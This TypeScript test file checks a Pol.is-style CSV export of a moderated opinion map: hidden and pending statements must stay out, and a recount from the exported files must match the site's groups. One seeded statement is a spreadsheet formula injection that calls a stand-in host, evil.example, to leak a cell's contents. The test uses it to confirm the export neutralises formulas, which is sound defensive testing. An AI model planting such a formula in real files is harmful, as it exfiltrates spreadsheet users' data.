import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestClient, type TestContext } from '../../../test/support/app.ts';
import { loadPolisExport } from '../../cli/opinion.ts';
import { analyzeConversation, readCommentsCsv } from '../../engines/opinion/index.ts';
import { createMapFixture } from './testing/map-fixture.ts';
import { twoCampStatements, twoCampVote } from './testing/two-camps.ts';

let ctx: TestContext;
let admin: TestClient;
beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.client().signInAs(ctx, await ctx.createUser({ role: 'admin' }));
});
afterAll(() => ctx.close());

const files = ['comments.csv', 'votes.csv', 'participants-votes.csv', 'summary.csv'] as const;
const statementsOf = (mapId: string) => ctx.deps.db.selectFrom('opinion_statement').select(['id', 'number', 'body', 'status']).where('map_id', '=', mapId).orderBy('number').execute();

describe('the Pol.is export of a moderated map', () => {
  let map: Awaited<ReturnType<typeof createMapFixture>>;
  const download: Record<string, string> = {};

  beforeAll(async () => {
    map = await createMapFixture(ctx.deps.db, { moderation: 'pre' });
    const seeds = [...twoCampStatements, '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', '-2+3 capteurs'];
    for (const body of seeds) expect((await admin.post(`/opinion-maps/${map.componentId}/manage/seed`, { body })).status).toBe(303);
    const seeded = await statementsOf(map.componentId);
    const voters: TestClient[] = [];
    for (let r = 0; r < 8; r++) {
      const voter = ctx.client();
      voters.push(voter);
      for (let s = 0; s < twoCampStatements.length; s++) expect((await voter.post(`/opinion-maps/${map.componentId}/votes`, { statementId: seeded[s].id, vote: twoCampVote(r, s) })).status).toBe(303);
    }
    // Two statements from participants wait for approval; the host approves one, votes go on, then the host hides it.
    expect((await voters[0].post(`/opinion-maps/${map.componentId}/statements`, { body: 'Texte masqué par l’hôte SECRET-HIDDEN' })).status).toBe(303);
    expect((await voters[1].post(`/opinion-maps/${map.componentId}/statements`, { body: 'Texte en attente SECRET-PENDING' })).status).toBe(303);
    const hidden = (await statementsOf(map.componentId)).find((s) => s.body.includes('SECRET-HIDDEN'))!;
    expect((await admin.post(`/opinion-maps/${map.componentId}/statements/${hidden.id}/moderate`, { action: 'approve' })).status).toBe(303);
    for (const voter of voters.slice(2, 5)) expect((await voter.post(`/opinion-maps/${map.componentId}/votes`, { statementId: hidden.id, vote: 'agree' })).status).toBe(303);
    expect((await admin.post(`/opinion-maps/${map.componentId}/statements/${hidden.id}/moderate`, { action: 'hide' })).status).toBe(303);
    for (const file of files) {
      const res = await ctx.client().get(`/opinion-maps/${map.componentId}/export/${file}`);
      expect(res.status).toBe(200);
      download[file] = await res.text();
    }
  });

  it('shows neither the text of a hidden statement nor a statement waiting for approval, in any file', () => {
    for (const file of files) {
      expect(download[file], file).not.toContain('SECRET-HIDDEN');
      expect(download[file], file).not.toContain('SECRET-PENDING');
    }
  });

  it('lists a hidden statement as Pol.is does, moderated out without text or author, and leaves a pending one out', async () => {
    const all = await statementsOf(map.componentId);
    const hidden = all.find((s) => s.body.includes('SECRET-HIDDEN'))!;
    const pending = all.find((s) => s.body.includes('SECRET-PENDING'))!;
    const comments = readCommentsCsv(download['comments.csv']);
    expect(comments.map((c) => c.id)).toEqual(all.filter((s) => s.status !== 'pending').map((s) => String(s.number)));
    expect(comments.find((c) => c.id === String(hidden.number))).toMatchObject({ moderated: -1, body: '', authorId: '', agrees: 3 });
    expect(comments.some((c) => c.id === String(pending.number))).toBe(false);
    expect(download['participants-votes.csv'].split('\n')[0].split(',')).not.toContain(String(pending.number));
    expect(download['summary.csv']).toContain(`comments,${comments.length}\n`);
  });

  it('neutralises formulas in statement text, keeps numbers numeric, and a recount finds the groups the site shows', async () => {
    expect(download['comments.csv']).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Cliquez"")"`);
    expect(download['comments.csv']).toContain(",'-2+3 capteurs\n");
    expect(download['votes.csv']).toMatch(/,-1\n/);
    const dir = mkdtempSync(join(tmpdir(), 'opinion-export-privacy-'));
    try {
      for (const file of files) writeFileSync(join(dir, file), download[file]);
      const { matrix } = await loadPolisExport(dir);
      const recount = analyzeConversation(matrix).groups.map((g) => g.members.map(Number).sort((a, b) => a - b)).sort();
      const api = (await (await ctx.client().get(`/api/v1/opinion-maps/${map.componentId}/results`)).json()) as { groups: { members: number[] }[] };
      expect(recount).toEqual(api.groups.map((g) => g.members).sort());
      expect(recount).toHaveLength(2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
